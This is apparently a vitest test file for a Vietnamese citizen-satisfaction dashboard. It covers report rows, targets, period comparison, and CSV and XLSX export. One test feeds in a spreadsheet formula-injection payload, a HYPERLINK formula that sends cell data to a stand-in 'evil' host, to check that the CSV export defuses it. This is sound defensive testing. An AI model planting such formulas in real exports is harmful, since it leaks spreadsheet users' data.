import { unzipSync, strFromU8 } from 'fflate';
import { describe, expect, it } from 'vitest';
import { DEFAULT_SCALE, SCALE_4, localMidnight } from '../../../core/index.ts';
import type { Tally } from '../../../core/index.ts';
import { BOM, reportCsv } from '../../../dashboard/src/reports/csv.ts';
import {
  buildReport,
  placeName,
  reportDateLine,
  reportFileName,
  reportHeadings,
  reportPeriodLine,
  reportPlaceDateLine,
  rowVerdict,
} from '../../../dashboard/src/reports/report.ts';
import type { ReportInput } from '../../../dashboard/src/reports/report.ts';
import { columnName, reportXlsx, sheetXml, xmlText } from '../../../dashboard/src/reports/xlsx.ts';
import { FakeBridge, MORNING } from '../fixtures.ts';

// 99 RHL+HL and 1 KHL at quay-1; 3 HL, 1 KHL at quay-2; 2 cooldown presses.
function tallies(): Tally[] {
  const bridge = new FakeBridge();
  for (let i = 0; i < 99; i++)
    bridge.vote('quay-1', 'q1-a', i % 3 === 0 ? 'hai-long' : 'rat-hai-long', MORNING + i * 1000, { officer: 'cb-1' });
  bridge.vote('quay-1', 'q1-a', 'khong-hai-long', MORNING + 200_000, { officer: 'cb-2' });
  for (const level of ['hai-long', 'hai-long', 'hai-long', 'khong-hai-long'] as const)
    bridge.vote('quay-2', 'q2-a', level, MORNING + 300_000);
  bridge.vote('quay-2', 'q2-a', 'hai-long', MORNING + 300_500, { filtered: 'cooldown' });
  bridge.vote('quay-2', 'q2-b', 'hai-long', MORNING + 300_600, { filtered: 'cooldown' });
  return bridge.tallies();
}

const NAMES: Record<string, string> = {
  'ba-dinh/phuc-xa': 'Phường Phúc Xá',
  'ba-dinh/phuc-xa/quay-1': 'Quầy 1 – Tư pháp – Hộ tịch',
  'ba-dinh/phuc-xa/quay-2': 'Quầy 2, "Địa chính"',
  'ba-dinh/phuc-xa/cb-1': 'Nguyễn Thị Lan',
  'ba-dinh/phuc-xa/cb-2': 'Trần Văn Hùng',
};

function input(over: Partial<ReportInput> = {}): ReportInput {
  return {
    tallies: tallies(),
    range: { from: '2025-03-01', to: '2025-03-31' },
    level: 'counter',
    scale: DEFAULT_SCALE,
    locale: 'vi',
    periodLabel: 'Tháng 3/2025',
    scopeLabel: 'Phường Phúc Xá',
    name: (_l, k) => NAMES[k] ?? k,
    target: () => 80,
    generatedAt: localMidnight('2025-04-02') + 9 * 3_600_000,
    ...over,
  };
}

describe('report content', () => {
  it('has one row per unit in the district report columns, ranked, with an exact total', () => {
    const r = buildReport(input());
    expect(reportHeadings(r)).toEqual([
      'Đơn vị',
      'Số lượt đánh giá',
      'Rất hài lòng',
      'Hài lòng',
      'Không hài lòng',
      'Tỷ lệ hài lòng (%)',
      'Chỉ số điểm',
      'Kỳ trước (%)',
      'Thay đổi (điểm %)',
      'Mục tiêu (%)',
      'Đánh giá',
    ]);
    expect(r.rows.map((x) => [x.unit, x.total, x.counts, x.satisfiedPercent, x.pointsIndex, x.filtered])).toEqual([
      ['Quầy 1 – Tư pháp – Hộ tịch', 100, [66, 33, 1], 99, 82.5, 0],
      ['Quầy 2, "Địa chính"', 4, [0, 3, 1], 75, 37.5, 2],
    ]);
    expect(r.total).toMatchObject({ unit: 'Tổng cộng', total: 104, counts: [66, 36, 2], satisfiedPercent: 98.08, filtered: 2 });
    expect(reportPeriodLine(r)).toBe('Kỳ báo cáo: Tháng 3/2025 (01/03/2025 – 31/03/2025)');
    expect(reportDateLine(r)).toBe('Ngày 02 tháng 04 năm 2025');
    expect(reportFileName(r, 'csv')).toBe('bao-cao-hai-long-2025-03-01_2025-03-31-counter.csv');
  });

  it('aggregates over the period only, and by officer', () => {
    expect(buildReport(input({ range: { from: '2025-04-01', to: '2025-04-30' } })).rows).toEqual([]);
    const officers = buildReport(input({ level: 'officer' }));
    expect(officers.rows.map((x) => [x.unit, x.total])).toEqual([
      ['Nguyễn Thị Lan', 99],
      ['Trần Văn Hùng', 1],
    ]);
    const wards = buildReport(input({ level: 'ward', prefix: 'ba-dinh/' }));
    expect(wards.rows.map((x) => [x.unit, x.total])).toEqual([['Phường Phúc Xá', 104]]);
    expect(buildReport(input({ level: 'ward', prefix: 'other/' })).rows).toEqual([]);
  });

  it('uses the scale given: one column per level of a 4-level scale, in English too', () => {
    const r = buildReport(input({ scale: SCALE_4, locale: 'en' }));
    expect(reportHeadings(r)).toEqual([
      'Unit',
      'Ratings',
      'Very satisfied',
      'Satisfied',
      'Neutral',
      'Dissatisfied',
      'Satisfied (%)',
      'Points index',
      'Previous period (%)',
      'Change (points)',
      'Target (%)',
      'Verdict',
    ]);
    expect(r.total.unit).toBe('Total');
  });
});

describe('what an official report needs (issue 12 item 11)', () => {
  it('judges each unit against its target, Đạt / Chưa đạt, and "Ít lượt" on too few votes', () => {
    const r = buildReport(input({ target: () => 99.5, totalTarget: 80 }));
    expect(r.rows.map((x) => [x.unit, x.target, rowVerdict(x, 'vi')])).toEqual([
      ['Quầy 1 – Tư pháp – Hộ tịch', 99.5, 'Chưa đạt'],
      ['Quầy 2, "Địa chính"', 99.5, 'Ít lượt'],
    ]);
    expect(rowVerdict(r.total, 'vi')).toBe('Đạt');
  });

  it('compares with the previous period', () => {
    const none = buildReport(input({ previous: { from: '2025-02-01', to: '2025-02-28' } }));
    expect(none.rows[0]).toMatchObject({ previousPercent: null, delta: null });
    const same = buildReport(input({ previous: { from: '2025-03-01', to: '2025-03-03' } }));
    expect(same.rows.map((x) => [x.previousPercent, x.delta])).toEqual([
      [99, 0],
      [75, 0],
    ]);
    expect(reportPeriodLine(same)).toBe(
      'Kỳ báo cáo: Tháng 3/2025 (01/03/2025 – 31/03/2025); so sánh với kỳ trước: 01/03/2025 – 03/03/2025',
    );
  });

  it('reports a period in progress "tính đến ngày …", not the whole month', () => {
    const r = buildReport(input({ today: '2025-03-06' }));
    expect(reportPeriodLine(r)).toBe('Kỳ báo cáo: Tháng 3/2025 (từ ngày 01/03/2025, tính đến ngày 06/03/2025)');
    expect(r.asOf).toBe('2025-03-06');
    expect(reportPeriodLine(buildReport(input({ today: '2025-04-02' })))).toBe('Kỳ báo cáo: Tháng 3/2025 (01/03/2025 – 31/03/2025)');
  });

  it('has the place-and-date line, the place named from the office data without its level word', () => {
    expect(placeName('Quận Ba Đình')).toBe('Ba Đình');
    expect(placeName('Phường Phúc Xá')).toBe('Phúc Xá');
    expect(placeName('Tỉnh Đắk Lắk')).toBe('Đắk Lắk');
    expect(placeName('Thành phố Hà Nội')).toBe('Hà Nội');
    expect(placeName('Đặc khu Phú Quốc')).toBe('Phú Quốc');
    expect(placeName('Ba Đình')).toBe('Ba Đình');
    expect(reportPlaceDateLine(buildReport(input({ place: 'Ba Đình' })))).toBe('Ba Đình, ngày 02 tháng 04 năm 2025');
  });

  it('ranks by the Wilson lower bound, like the dashboard', () => {
    const bridge = new FakeBridge();
    for (let i = 0; i < 3; i++) bridge.vote('quay-2', 'q2-a', 'rat-hai-long', MORNING + i * 1000);
    for (let i = 0; i < 200; i++) bridge.vote('quay-1', 'q1-a', i < 190 ? 'hai-long' : 'khong-hai-long', MORNING + 10_000 + i * 1000);
    expect(buildReport(input({ tallies: bridge.tallies() })).rows.map((x) => [x.key, x.satisfiedPercent])).toEqual([
      ['ba-dinh/phuc-xa/quay-1', 95],
      ['ba-dinh/phuc-xa/quay-2', 100],
    ]);
  });
});

describe('CSV export', () => {
  it('is UTF-8 with a BOM, RFC 4180 quoting, header first, machine numbers', () => {
    const csv = reportCsv(buildReport(input()));
    expect(csv.startsWith(BOM)).toBe(true);
    const lines = csv.slice(1).split('\r\n');
    expect(lines).toEqual([
      'Đơn vị,Số lượt đánh giá,Rất hài lòng,Hài lòng,Không hài lòng,Tỷ lệ hài lòng (%),Chỉ số điểm,Kỳ trước (%),Thay đổi (điểm %),Mục tiêu (%),Đánh giá',
      'Quầy 1 – Tư pháp – Hộ tịch,100,66,33,1,99,82.5,,,80,Đạt',
      '"Quầy 2, ""Địa chính""",4,0,3,1,75,37.5,,,80,Ít lượt',
      'Tổng cộng,104,66,36,2,98.08,80.77,,,,',
      '',
    ]);
  });

  it('defuses a unit name that a spreadsheet would run as a formula (names come from MQTT)', () => {
    const report = buildReport(input());
    const evil = { ...report, rows: [{ ...report.rows[0]!, unit: '=HYPERLINK("http://evil/?"&A1,"Quầy 1")' }] };
    const line = reportCsv(evil).split('\r\n')[1]!;
    expect(line.startsWith(`"'=HYPERLINK(`)).toBe(true);
  });
});

describe('XLSX export', () => {
  it('is a valid zip of the workbook parts, with inline strings, numbers and A4 setup', () => {
    const report = buildReport(input());
    const files = unzipSync(reportXlsx(report));
    expect(Object.keys(files).sort()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/_rels/workbook.xml.rels',
      'xl/styles.xml',
      'xl/workbook.xml',
      'xl/worksheets/sheet1.xml',
    ]);
    const sheet = strFromU8(files['xl/worksheets/sheet1.xml']!);
    expect(sheet).toBe(sheetXml(report));
    const doc = new DOMParser().parseFromString(sheet, 'application/xml');
    expect(doc.getElementsByTagName('parsererror')).toHaveLength(0);
    const rows = [...doc.getElementsByTagName('row')].map((row) =>
      [...row.getElementsByTagName('c')].map(
        (c) => c.getElementsByTagName('t')[0]?.textContent ?? c.getElementsByTagName('v')[0]?.textContent ?? '',
      ),
    );
    expect(rows[0]).toEqual(['BÁO CÁO KẾT QUẢ ĐÁNH GIÁ MỨC ĐỘ HÀI LÒNG']);
    expect(rows[2]).toEqual(['Kỳ báo cáo: Tháng 3/2025 (01/03/2025 – 31/03/2025)']);
    expect(rows[5]![0]).toBe('Đơn vị');
    expect(rows[6]).toEqual(['Quầy 1 – Tư pháp – Hộ tịch', '100', '66', '33', '1', '99', '82.5', '', '', '80', 'Đạt']);
    expect(rows[8]).toEqual(['Tổng cộng', '104', '66', '36', '2', '98.08', '80.77', '', '', '', '']);
    expect(sheet).toContain('paperSize="9"');
    for (const part of ['[Content_Types].xml', 'xl/workbook.xml', 'xl/styles.xml']) {
      const xml = new DOMParser().parseFromString(strFromU8(files[part]!), 'application/xml');
      expect(xml.getElementsByTagName('parsererror'), part).toHaveLength(0);
    }
  });

  it('is deterministic and escapes XML', () => {
    const report = buildReport(input());
    expect(reportXlsx(report)).toEqual(reportXlsx(report));
    expect(xmlText('a<b & "c"\u0001')).toBe('a&lt;b &amp; &quot;c&quot;');
    expect([0, 25, 26, 27].map(columnName)).toEqual(['A', 'Z', 'AA', 'AB']);
  });
});

describe('reasons in reports (issue 12 item 2)', () => {
  function withReasons(): Tally[] {
    const bridge = new FakeBridge();
    for (let i = 0; i < 6; i++) bridge.vote('quay-1', 'q1-a', 'rat-hai-long', MORNING + i * 1000);
    bridge.vote('quay-1', 'q1-a', 'khong-hai-long', MORNING + 10_000, { reasons: ['thoi-gian-cho', 'thai-do'] });
    bridge.vote('quay-1', 'q1-a', 'khong-hai-long', MORNING + 11_000, { reasons: ['thoi-gian-cho'] });
    bridge.vote('quay-2', 'q2-a', 'khong-hai-long', MORNING + 12_000, { reasons: ['thoi-gian-cho'] });
    bridge.vote('quay-2', 'q2-a', 'khong-hai-long', MORNING + 13_000);
    return bridge.tallies();
  }

  it('counts each reason per unit and in total, most named first, with the low votes they are of', () => {
    const r = buildReport(input({ tallies: withReasons() }));
    expect(r.reasons).toEqual(['thoi-gian-cho', 'thai-do']);
    expect(r.rows.map((x) => [x.unit, x.low, x.reasons])).toEqual([
      ['Quầy 1 – Tư pháp – Hộ tịch', 2, [2, 1]],
      ['Quầy 2, "Địa chính"', 2, [1, 0]],
    ]);
    expect([r.total.low, r.total.reasons]).toEqual([4, [3, 1]]);
    expect(reportHeadings(r).slice(-2)).toEqual(['Lý do: Thời gian chờ (lượt)', 'Lý do: Thái độ phục vụ (lượt)']);
    expect(reportHeadings(r, false)).toHaveLength(reportHeadings(r).length - 2);
  });

  it('puts them in the CSV and the XLSX, one column per reason', () => {
    const report = buildReport(input({ tallies: withReasons() }));
    const lines = reportCsv(report).slice(1).split('\r\n');
    expect(lines[0]!.endsWith(',Lý do: Thời gian chờ (lượt),Lý do: Thái độ phục vụ (lượt)')).toBe(true);
    expect(lines[3]!.endsWith(',3,1')).toBe(true);
    const sheet = strFromU8(unzipSync(reportXlsx(report))['xl/worksheets/sheet1.xml']!);
    expect(sheet).toContain('Lý do: Thời gian chờ (lượt)');
  });
});
